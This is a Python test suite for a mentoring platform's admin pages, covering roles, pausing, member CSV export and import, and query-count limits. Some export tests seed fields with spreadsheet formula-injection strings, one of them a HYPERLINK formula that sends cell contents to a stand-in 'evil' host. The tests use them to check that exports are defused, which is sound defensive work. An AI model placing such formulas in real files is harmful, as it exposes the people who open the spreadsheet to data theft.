"""The office: roles, pause, the list as a file and from a file; the same cost for many as for few."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session
from werkzeug.datastructures import FileStorage
from werkzeug.test import TestResponse, encode_multipart

from flashmeet.core.database.session import Database
from flashmeet.core.spreadsheets.writer import csv_text
from flashmeet.identity.models import Member, MentorTheme
from flashmeet.messages.models import OutboxMessage
from flashmeet.people.rules.facts import FACTS
from flashmeet.people.rules.member_columns import HEADER
from flashmeet.people.service.export import member_rows
from flashmeet.people.service.import_members import WrongFile, import_members
from flashmeet.people.service.import_rows import read_file
from flashmeet.themes.models import Theme
from flashmeet.themes.service import create_theme
from tests import people
from tests.browsers import Browser
from tests.databases import statements_of

SignedIn = Callable[[Member | int], Browser]
GOOD = "zoe@example.org,Zoé,Petit,mentee;mentor,yes,Europe/Paris,fr,+33612345678,2015,Œuvres;Droit,fr;en,Arcade,Droit,"
BAD = "nobody,Zed,Z,king,yes,,,,,,,,,"


@pytest.fixture
def odile(database: Database) -> Member:
    with database.writing() as db:
        return people.member(db, "Odile", administrator=True, mentee=False, locale="en")


@pytest.fixture
def office(odile: Member, signed_in: SignedIn) -> Browser:
    return signed_in(odile)


def member(database: Database, email: str) -> Member:
    with database.reading() as db:
        found = db.scalars(select(Member).where(Member.email == email)).one()
        assert found.offers is not None
        return found


def test_roles_are_given_and_taken(office: Browser, database: Database) -> None:
    with database.writing() as db:
        bob = people.member(db, "Bob")
    form = {"roles": ["mentor", "administrator"], "q": "bob"}
    assert office.send(f"/admin/members/{bob.id}/roles", form).location == "/admin/members?q=bob"
    assert member(database, "bob@example.org").roles == ["mentor", "administrator"]
    assert office.send(f"/admin/members/{bob.id}/roles", {"roles": ["king"]}).status_code == 422


def test_who_lost_their_address_is_given_another(office: Browser, database: Database) -> None:
    with database.writing() as db:
        bob = people.member(db, "Bob")
    where = f"/admin/members/{bob.id}/address"
    assert office.send(where, {"email": "Bob@New.example", "q": "bob"}).location == "/admin/members?q=bob"
    assert member(database, "bob@new.example").id == bob.id
    assert office.send(where, {"email": "odile@example.org"}).status_code == 409
    assert office.send(where, {"email": "bob"}).status_code == 422


def test_the_last_administrator_stays_one(office: Browser, database: Database, odile: Member) -> None:
    alone = office.send(f"/admin/members/{odile.id}/roles", {"roles": ["mentee"]})
    assert (alone.status_code, "Make another member an administrator" in alone.get_data(as_text=True)) == (422, True)
    with database.writing() as db:
        people.member(db, "Eve", administrator=True, suspended=True)
    assert office.send(f"/admin/members/{odile.id}/roles", {"roles": ["mentee"]}).status_code == 422
    with database.writing() as db:
        people.member(db, "Otto", administrator=True)
    assert office.send(f"/admin/members/{odile.id}/roles", {"roles": ["mentee"]}).status_code == 303
    assert member(database, "odile@example.org").roles == ["mentee"]


def test_a_paused_mentor_shows_no_hours_until_approved_again_and_is_nobodys_to_do(
    office: Browser, database: Database, signed_in: SignedIn
) -> None:
    with database.writing() as db:
        alice = people.mentor(db)
    office.send(f"/admin/members/{alice.id}/pause")
    assert not member(database, "alice@example.org").bookable
    for only, listed in (("waiting", False), ("held", True), ("mentor", True)):
        page = office.get(f"/admin/members?only={only}").get_data(as_text=True)
        assert ("alice@example.org" in page) is listed, only
    assert "is waiting for your approval" not in office.get("/admin").get_data(as_text=True)
    mine = signed_in(alice)
    for path in ("/me", "/me/availability"):
        page = mine.get(path, headers={"Accept-Language": "en"}).get_data(as_text=True)
        assert ("a mis vos heures en pause" in page, "valide votre rôle" in page) == (True, False), path
    office.send(f"/admin/members/{alice.id}/approve")
    back = member(database, "alice@example.org")
    assert (back.bookable, back.held_at) == (True, None)


def test_who_has_not_proved_an_address_is_in_no_list(office: Browser, database: Database) -> None:
    with database.writing() as db:
        people.member(db, "Ghost", suspended=True, joining="proof")
    for only in ("", "suspended", "applied", "mentee"):
        assert "ghost@example.org" not in office.get(f"/admin/members?only={only}").get_data(as_text=True)


def test_the_list_as_a_file_is_harmless_and_keeps_phone_numbers(office: Browser, database: Database) -> None:
    with database.writing() as db:
        people.mentor(db, "Alice", phone="+33612345678", company='=HYPERLINK("x")', headline="@SUM(1)")
        people.member(db, "Bob")
    answer = office.get("/admin/members.csv?only=mentor")
    assert answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True).removeprefix("\ufeff"))))
    assert [row["email"] for row in rows] == ["alice@example.org"]
    [alice] = rows
    assert (alice["phone"], alice["company"], alice["headline"]) == ("+33612345678", '’=HYPERLINK("x"’)', "’@SUM(1)")
    assert (alice["roles"], alice["themes"], alice["approved"]) == ("mentee;mentor", "Law", "yes")


def test_what_was_exported_can_be_imported(office: Browser, database: Database) -> None:
    with database.writing() as db:
        people.mentor(db, "Alice", phone="+33612345678")
    data = office.get("/admin/members.csv").data
    assert "2 of" not in looked_at(office, data)
    assert "things to check" in looked_at(office, data)
    assert "<strong>0</strong> <span>things to check" in looked_at(office, data)


def test_what_was_exported_and_imported_elsewhere_says_the_same(office: Browser, database: Database) -> None:
    facts: dict[str, Any] = {
        "degree": "Master; law",
        "offering": 'I read "bylaws"',
        "seeking": "A peer, perhaps",
        "sector": ';=HYPERLINK("http://evil/?"&A1;"x");',
        "headline": "+15 ans en droit social",
        "company": "’=1; '=1|-2",
    }
    with database.writing() as db:
        alice = people.mentor(db, "Alice", phone="+33612345678", graduation_year=2010, **facts)
        tax = create_theme(db, names={"fr": "Impôts; taxes", "en": "Tax; duties"})
        alice.offers.append(MentorTheme(theme_id=tax.id, proof='Ten years; "head" of audits'))
        db.flush()
        before = said_by(alice)
        data = office_file(db)
        for offer in list(alice.offers):
            alice.offers.remove(offer)
        db.flush()
        db.delete(alice)
    rows = read_file(data, country="FR")
    assert rows.problems == []
    with database.writing() as db:
        import_members(db, rows.rows, update=False, now=people.NOW)
        again = db.scalars(select(Member).where(Member.email == "alice@example.org")).one()
        assert said_by(again) == before


def office_file(db: Session) -> bytes:
    return csv_text(member_rows(db, locale="fr")).encode()


def said_by(who: Member) -> dict[str, object]:
    once = {each.name: getattr(who, each.name) for each in FACTS if not each.per_theme}
    return {**once, "roles": who.roles, "proofs": {offer.theme_id: offer.proof for offer in who.offers}}


def send_file(office: Browser, data: bytes) -> TestResponse:
    form: dict[str, Any] = {"file": FileStorage(io.BytesIO(data), "members.csv"), "csrf_token": office.token()}
    boundary, body = encode_multipart(form)
    return office.post("/admin/members/import", data=body, content_type=f'multipart/form-data; boundary="{boundary}"')


def looked_at(office: Browser, data: bytes) -> str:
    return send_file(office, data).get_data(as_text=True)


def key_in(page: str) -> str:
    return page.split('name="key" value="')[1].split('"', maxsplit=1)[0]


def test_a_file_is_shown_first_and_its_good_rows_are_taken_once(office: Browser, database: Database) -> None:
    with database.writing() as db:
        people.law(db)
    page = looked_at(office, "\n".join((HEADER, GOOD, BAD)).encode())
    assert "<strong>1</strong> <span>new people" in page
    assert "Œuvres" in page and "Line 3, email" in page
    with database.reading() as db:
        assert db.scalars(select(Member.email).where(Member.email.like("zoe%"))).all() == []
    taken = {"key": key_in(page)}
    assert office.send("/admin/members/import/take", taken).status_code == 200
    zoe = member(database, "zoe@example.org")
    assert (zoe.roles, zoe.phone, len(zoe.offers)) == (["mentee", "mentor"], "+33612345678", 2)
    assert office.send("/admin/members/import/take", taken).status_code == 404
    with database.reading() as db:
        assert len(db.scalars(select(Theme)).all()) == 2


def test_a_file_is_taken_by_who_looked_at_it(office: Browser, database: Database, signed_in: SignedIn) -> None:
    key = key_in(looked_at(office, "\n".join((HEADER, GOOD)).encode()))
    with database.writing() as db:
        otto = people.member(db, "Otto", administrator=True)
    assert signed_in(otto).send("/admin/members/import/take", {"key": key}).status_code == 404


def test_a_file_may_have_a_megabyte_and_no_more(office: Browser) -> None:
    line = ("p{:06}@example.org,Jean,Dupont,mentee,yes,,,,,,,,," + "x" * 190).format
    rows = [HEADER, *map(line, range(4_300))]
    data = "\n".join(rows).encode()[:1_000_000]
    assert "new people" in looked_at(office, data)
    assert send_file(office, b"x" * 1_100_000).status_code == 413


def test_what_is_no_text_is_said_and_nothing_is_offered(office: Browser) -> None:
    page = looked_at(office, b"\xff\xfe\x00")
    assert "None of its rows can be imported" in page
    assert 'name="key"' not in page


def test_an_import_lets_in_whoever_had_begun_to_join(office: Browser, database: Database) -> None:
    with database.writing() as db:
        ghost = people.member(db, "Zoe", suspended=True, joining="proof", mentee=False)
        ghost.first_name = ""
    office.send("/admin/members/import/take", {"key": key_in(looked_at(office, "\n".join((HEADER, GOOD)).encode()))})
    zoe = member(database, "zoe@example.org")
    assert (zoe.first_name, zoe.joining, zoe.suspended, zoe.bookable) == ("Zoé", None, False, True)


ROW = ",{name},Exemple,mentee,yes,Europe/Paris,fr,,,,fr,,,"
KEYED = f"{HEADER},external_id"


def keyed(email: str, name: str, key: str) -> str:
    return f"{email}{ROW.format(name=name)},{key}"


def take(db: Session, *rows: str, update: bool = True) -> tuple[int, int, int]:
    file = read_file("\n".join((KEYED, *rows)).encode(), country="FR")
    assert file.problems == []
    done = import_members(db, file.rows, update=update, now=people.NOW)
    return done.created, done.updated, done.unchanged


def addresses(db: Session) -> dict[str | None, str]:
    return {member.external_id: member.email for member in db.scalars(select(Member))}


def test_a_person_is_known_by_the_schools_key_and_takes_the_address_of_the_file(db: Session) -> None:
    bob = people.member(db, "Bob")
    assert take(db, keyed("bob@example.org", "Bob", "42"), update=False) == (0, 0, 1)
    assert take(db, keyed("bob@example.org", "Bob", "42")) == (0, 1, 0)
    assert take(db, keyed("bob@new.example", "Bob", "42"), update=False) == (0, 0, 1)
    assert (bob.email, bob.external_id) == ("bob@example.org", "42")
    assert take(db, keyed("bob@new.example", "Bob", "42")) == (0, 1, 0)
    assert take(db, keyed("bob@new.example", "Bob", "42")) == (0, 0, 1)
    assert addresses(db) == {"42": "bob@new.example"}
    told = select(OutboxMessage.kind).order_by(OutboxMessage.id)
    assert db.scalars(told).all() == ["address_left", "address_new"]


def test_addresses_are_passed_on_in_one_file_and_never_taken_from_somebody(db: Session) -> None:
    take(
        db, keyed("a@example.org", "Anna", "1"), keyed("b@example.org", "Bea", "2"), keyed("c@example.org", "Cleo", "")
    )
    take(db, keyed("b@example.org", "Anna", "1"), keyed("d@example.org", "Bea", "2"))
    assert addresses(db) == {"1": "b@example.org", "2": "d@example.org", None: "c@example.org"}
    with pytest.raises(WrongFile) as refused:
        take(db, keyed("e@example.org", "Bea", "2"), keyed("c@example.org", "Anna", "1"))
    assert [(each.line, each.code) for each in refused.value.problems] == [(3, "taken")]
    twice = "\n".join((KEYED, keyed("x@example.org", "X", "9"), keyed("y@example.org", "Y", "9")))
    assert [each.code for each in read_file(twice.encode(), country="FR").problems] == ["repeated_id"]


def test_the_browsers_import_leaves_out_the_row_whose_address_is_taken(office: Browser, database: Database) -> None:
    with database.writing() as db:
        take(db, keyed("a@example.org", "Anna", "1"), keyed("c@example.org", "Cleo", ""))
    rows = (KEYED, keyed("c@example.org", "Anna", "1"), keyed("new@example.org", "Nina", "3"))
    key = key_in(looked_at(office, "\n".join(rows).encode()))
    done = office.send("/admin/members/import/take", {"key": key, "update": "yes"}).get_data(as_text=True)
    assert "c@example.org” is another member’s address" in done
    with database.reading() as db:
        assert addresses(db)["1"] == "a@example.org" and addresses(db)["3"] == "new@example.org"


PAGES = (
    "/admin/members",
    "/admin/members?only=mentor",
    "/admin/members?q=m",
    "/admin/members.csv",
    "/admin/joining",
    "/admin/settings",
    "/admin/settings/answer_days",
    "/admin/texts",
    "/me/profile",
)


def test_a_page_asks_as_often_for_ten_times_as_many_members(office: Browser, database: Database) -> None:
    statements = statements_of(database)

    def cost(path: str) -> int:
        statements.clear()
        assert office.get(path).status_code == 200
        return len(statements)

    def fill(count: int) -> None:
        with database.writing() as db:
            for _ in range(count):
                number = fill.__dict__["next"] = fill.__dict__.get("next", 0) + 1
                people.mentor(db, f"M{number}", rules=())

    fill(4)
    office.get(PAGES[0])  # what a process keeps of settings and themes is read once
    few = {path: cost(path) for path in PAGES}
    fill(36)
    assert {path: cost(path) for path in PAGES} == few
    assert max(few.values()) <= 14, few
